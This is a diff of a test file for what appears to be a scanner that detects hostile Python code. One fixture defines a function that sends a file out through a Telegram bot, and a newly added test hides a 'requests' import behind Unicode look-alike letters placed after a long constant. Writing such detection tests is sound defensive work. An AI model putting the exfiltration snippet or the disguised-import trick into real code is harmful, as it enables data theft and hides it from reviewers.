@@ -217,3 +217,14 @@ test('a download then run in one command line, a bare shell started on import, a
     'import telebot\nbot = telebot.TeleBot(TOKEN)\ndef leak(path):\n    bot.send_document(1, open(path, "rb"))\n';
   assert.ok(findings(bot).some((f) => f.rule === 'egress-network-call' && /send_document/.test(f.message)));
 });
+
+test('a long run of word characters next to one non-ASCII letter is read once (the NFKC check is linear)', () => {
+  const blob = 'A'.repeat(400_000);
+  const source = `DATA = "${blob}é"\n𝗿𝗲𝗾𝘂𝗲𝘀𝘁𝘀 = __import__("requests")\n`;
+  const disguise = ruleOf(findings(source), 'unicode-disguised-name');
+  assert.match(
+    disguise?.message ?? '',
+    /'requests'/,
+    'the name after the long constant is still read as Python reads it',
+  );
+});
